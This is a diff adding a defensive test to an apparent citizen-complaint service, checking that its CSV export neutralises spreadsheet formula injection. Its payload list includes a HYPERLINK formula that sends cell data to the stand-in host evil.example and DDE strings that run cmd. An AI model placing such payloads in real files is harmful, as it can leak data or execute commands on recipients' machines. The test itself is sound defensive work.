@@ -302,3 +302,35 @@ def test_a_merge_across_privacies_shows_no_reader_what_it_may_not_read(world):
     assert world.get(f"/open311/v2/requests/{secret.tracking_number}.json").status_code == 404
     operator = world.get(f"/v1/complaints/{public.complaint_id}", "op").json()
     assert [m["complaint_id"] for m in operator["cluster"]] == [hidden.complaint_id]
+
+
+# -- injection: CSV formulas, script in text -------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1",
+            'biasa";=HYPERLINK("http://evil.example")', "biasa\r\n=1+1"]
+
+
+def test_no_csv_cell_of_a_citizens_text_is_a_formula(world):
+    """Every text column a citizen fills (subject, text, reporter name), written as an attacker would,
+    exported with ``;`` for every role that exports: parsed back, no cell starts (after blanks a
+    spreadsheet may trim) with what a spreadsheet runs."""
+    import csv
+    import io
+
+    word = make.marker("rumus")
+    for formula in FORMULAS:
+        world.put(make.routed(text=formula, subject=formula, unit_code=UNIT_A, region_code="3273",
+                              reporter=make.reporter(name=formula), location=LocationHint(text=word)))
+        world.put(make.routed(text=f"{word} {formula}", subject=f"{formula} {word}", unit_code=UNIT_A,
+                              region_code="3273", reporter=make.reporter(name=formula)))
+    for key in ("op", "an", "ua"):
+        answer = world.get("/v1/export.csv", key, delimiter=";", unit=UNIT_A)
+        rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff")), delimiter=";"))
+        assert len(rows) > len(FORMULAS), (key, len(rows))
+        for row in rows[1:]:
+            assert len(row) == len(rows[0]), (key, row)
+            for cell in row:
+                if cell.startswith(("+62", "-")) and cell.replace("+", "").replace("-", "").isdigit():
+                    continue  # a phone number or a negative number, not text
+                assert not cell.lstrip(" \u00a0\u3000").startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
